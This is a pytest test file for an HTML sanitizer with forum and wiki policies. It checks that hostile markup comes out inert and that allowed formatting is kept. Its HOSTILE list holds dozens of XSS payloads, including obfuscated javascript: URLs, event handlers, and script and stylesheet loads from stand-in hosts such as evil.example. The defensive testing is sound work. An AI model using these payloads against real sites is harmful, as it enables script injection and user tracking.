"""core.sanitize on its own: hostile HTML comes out inert under every policy; the policies differ only where meant to."""

import ast
from html.parser import HTMLParser
from pathlib import Path

import pytest

from core import sanitize as sanitize_module
from core.sanitize import FORUM, USER_CONTENT, USER_CONTENT_REL, WIKI, Policy, sanitize_html, strip_tags

POLICIES = {"forum": FORUM, "wiki": WIKI}

HOSTILE = [
    # script
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=module>import('//evil.example/x.js')</script>",
    # event handlers
    "<p onclick=alert(1)>x</p>",
    '<a href="https://example.org" onmouseover="alert(1)">x</a>',
    "<b onmouseenter='alert(1)'>x</b>",
    '<svg onload="alert(1)"><circle/></svg>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    '<input autofocus onfocus="alert(1)">',
    "<marquee onstart=alert(1)>x</marquee>",
    # script-capable URLs
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # frames, embeds, images: nothing may be loaded from anywhere
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<frameset><frame src=//evil.example/></frameset>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    '<img src="https://tracker.example/pixel.gif">',
    "<img src=x onerror=alert(1)>",
    '<picture><source srcset="https://tracker.example/x"><img src="https://tracker.example/x"></picture>',
    '<video poster="https://tracker.example/p.png"><source src="https://tracker.example/v.mp4"></video>',
    '<audio src="https://tracker.example/a.mp3" autoplay></audio>',
    '<svg><image href="https://tracker.example/x.png"/></svg>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    # style
    '<p style="background:url(https://tracker.example/x)">x</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    # nested and malformed
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<b><i><script>alert(1)</script>",
    '<a href="https://example.org"><a href="javascript:alert(1)">x</a></a>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<img src=x onerror=alert(1)//",
    '<a href="https://example.org" rel="opener" target="_blank" class="button" id="Login Form">x</a>',
]


class Inventory(HTMLParser):
    """Every start tag with its attributes, as a browser would see them."""

    def __init__(self):
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Inventory()
    parser.feed(html)
    parser.close()
    return parser.elements


def problems(html: str, policy: Policy) -> list[str]:
    found = []
    for tag, attrs in elements(html):
        if tag not in policy.tags:
            found.append(f"tag {tag}")
        for name, value in attrs.items():
            allowed = (
                policy.attributes.get(tag, set())
                | policy.attributes.get("*", set())
                | set(policy.attribute_values.get(tag, {}))
                | ({"rel"} if tag == "a" else set())
            )
            if name not in allowed:
                found.append(f"attribute {tag}.{name}")
            if (
                name == "href"
                and not (value or "").startswith(("http://", "https://", "//", "/", "#", "mailto:"))
                and policy.relative_links == "rooted"
            ):
                found.append(f"href {value}")
            if (
                name == "href"
                and ":" in (value or "").split("/")[0]
                and not (value or "").startswith(("http:", "https:", "mailto:"))
            ):
                found.append(f"href {value}")
            if name == "rel" and value != USER_CONTENT_REL:
                found.append(f"rel {value}")
    return found


def test_the_check_itself_catches_active_content():
    assert problems(
        '<img src=x onerror=alert(1)><a href="javascript:alert(1)" rel="opener">x</a><p style="x">y</p>', FORUM
    ) == [
        "tag img",
        "attribute img.src",
        "attribute img.onerror",
        "href javascript:alert(1)",
        "rel opener",
        "attribute p.style",
    ]


@pytest.mark.parametrize("policy_name", POLICIES)
@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_html_comes_out_inert(policy_name, payload):
    policy = POLICIES[policy_name]
    html = sanitize_html(payload, policy)
    assert problems(html, policy) == [], html
    lowered = html.lower()
    for forbidden in (
        "<script",
        "<style",
        "<iframe",
        "<img",
        "<svg",
        "<object",
        "<embed",
        "javascript:",
        "data:",
        "vbscript:",
        " on",
        "style=",
        "src=",
    ):
        # Escaped text (e.g. "&lt;script") is harmless; these can only appear as markup.
        assert forbidden not in lowered.replace("&lt;", "").replace("&gt;", ""), (forbidden, html)


@pytest.mark.parametrize("policy", POLICIES.values(), ids=POLICIES)
def test_script_and_style_are_dropped_with_their_content(policy):
    assert sanitize_html("<p>vor<script>alert(1)</script><style>p{}</style>nach</p>", policy) == "<p>vornach</p>"


@pytest.mark.parametrize("policy", POLICIES.values(), ids=POLICIES)
def test_disallowed_wrappers_keep_their_text(policy):
    assert sanitize_html('<div onclick="x"><span style="color:red">Text</span></div>', policy) == "Text"


@pytest.mark.parametrize("policy", POLICIES.values(), ids=POLICIES)
def test_malformed_markup_is_closed_and_quoted(policy):
    assert sanitize_html("<b><i>offen", policy) == "<b><i>offen</i></b>"
    assert sanitize_html('<a title="a>b" href="https://example.org">x</a>', policy).startswith(
        '<a title="a&gt;b" href="https://example.org"'
    )


@pytest.mark.parametrize("policy", POLICIES.values(), ids=POLICIES)
def test_script_urls_lose_their_href_but_keep_the_text(policy):
    for url in (
        "javascript:alert(1)",
        "&#106;avascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
    ):
        html = sanitize_html(f'<a href="{url}">Text</a>', policy)
        assert "href" not in html and ">Text</a>" in html, (url, html)


@pytest.mark.parametrize("policy", POLICIES.values(), ids=POLICIES)
def test_harmless_formatting_survives(policy):
    source = "<p><strong>fett</strong> <em>kursiv</em> <del>alt</del><br></p><ul><li>a</li></ul><blockquote>z</blockquote><pre><code>c</code></pre><hr>"
    assert sanitize_html(source, policy) == source


@pytest.mark.parametrize("policy", POLICIES.values(), ids=POLICIES)
def test_external_links_get_the_user_content_rel_and_a_typed_rel_is_replaced(policy):
    for href in ("https://example.org/a?b=1&amp;c=2", "http://example.org", "//cdn.example/"):
        html = sanitize_html(f'<a href="{href}" rel="follow" title="t">x</a>', policy)
        assert html == f'<a href="{href}" title="t" rel="{USER_CONTENT_REL}">x</a>'


def test_forum_marks_every_link_wiki_only_external_ones():
    source = '<a href="/de/kita/">intern</a> <a href="#abschnitt">anker</a> <a href="mailto:kita@example.org">mail</a>'
    assert sanitize_html(source, FORUM) == (
        f'<a href="/de/kita/" rel="{USER_CONTENT_REL}">intern</a> <a href="#abschnitt" rel="{USER_CONTENT_REL}">anker</a> '
        f'<a href="mailto:kita@example.org" rel="{USER_CONTENT_REL}">mail</a>'
    )
    assert sanitize_html(source, WIKI) == source


def test_wiki_allows_only_rooted_relative_links_forum_any():
    assert sanitize_html('<a href="seite.html">x</a>', WIKI) == "<a>x</a>"
    assert sanitize_html('<a href="javascript&amp;#58;alert(1)">x</a>', WIKI) == "<a>x</a>"
    assert sanitize_html('<a href="seite.html">x</a>', FORUM) == f'<a href="seite.html" rel="{USER_CONTENT_REL}">x</a>'


def test_heading_levels_differ_between_wiki_and_forum():
    source = "<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>"
    assert sanitize_html(source, WIKI) == "1<h2>2</h2><h3>3</h3><h4>4</h4>56"
    assert sanitize_html(source, FORUM) == "12<h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>"


def test_wiki_heading_anchors_must_be_slugs_and_the_forum_has_none():
    source = (
        '<h2 id="wann-beantragen">a</h2><h3 id="Login Form">b</h3><h4 id="x&quot;onclick=&quot;y">c</h4><p id="p">d</p>'
    )
    assert sanitize_html(source, WIKI) == '<h2 id="wann-beantragen">a</h2><h3>b</h3><h4>c</h4><p>d</p>'
    assert sanitize_html('<h3 id="abschnitt">b</h3>', FORUM) == "<h3>b</h3>"


def test_only_the_wikis_own_link_classes_survive():
    assert (
        sanitize_html('<a class="wiki-link" href="/de/wiki/a/">a</a>', WIKI)
        == '<a class="wiki-link" href="/de/wiki/a/">a</a>'
    )
    missing = '<a class="wiki-link wiki-link--missing" href="/de/wiki/neu/">b</a>'
    assert sanitize_html(missing, WIKI) == missing
    for foreign in ("button", "wiki-link button", "btn btn-primary"):
        assert "class" not in sanitize_html(f'<a class="{foreign}" href="/x">c</a>', WIKI)
    assert "class" not in sanitize_html('<a class="wiki-link" href="/x">c</a>', FORUM)
    assert "class" not in sanitize_html('<p class="wiki-link">c</p>', WIKI)


def test_tables_only_in_the_wiki():
    source = "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>"
    assert sanitize_html(source, WIKI) == source
    assert sanitize_html(source, FORUM) == "ab"


def test_policies_are_built_from_one_base_which_extending_leaves_unchanged():
    assert USER_CONTENT.tags < FORUM.tags and USER_CONTENT.tags < WIKI.tags
    assert FORUM.attributes["a"] == WIKI.attributes["a"] == USER_CONTENT.attributes["a"]
    assert FORUM.attributes["*"] == WIKI.attributes["*"] == {"lang", "title"}
    wider = USER_CONTENT.extend(tags={"sup"}, attributes={"a": {"lang"}}, mark_links="external")
    assert "sup" in wider.tags and wider.attributes["a"] == {"href", "title", "lang"} and wider.mark_links == "external"
    assert (
        "sup" not in USER_CONTENT.tags
        and USER_CONTENT.attributes["a"] == {"href", "title"}
        and USER_CONTENT.mark_links == "all"
    )


@pytest.mark.parametrize("policy", POLICIES.values(), ids=POLICIES)
def test_only_lang_and_title_are_allowed_on_every_tag(policy):
    assert (
        sanitize_html('<p lang="de" title="t" dir="rtl" class="x" data-x="1" aria-hidden="true">a</p>', policy)
        == '<p lang="de" title="t">a</p>'
    )


def test_strip_tags_leaves_text_only():
    assert (
        strip_tags('<p>a <b>fett</b> <a href="https://x.org">link</a><script>alert(1)</script><style>p{}</style></p>')
        == "a fett link"
    )
    assert strip_tags("&lt;b&gt;") == "&lt;b&gt;"


def test_core_sanitize_imports_nothing_from_the_layers_above():
    tree = ast.parse(Path(sanitize_module.__file__).read_text())
    imported = {node.module for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) and node.module}
    imported |= {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
    assert not {name for name in imported if name.split(".")[0] in {"home", "community", "search"}}
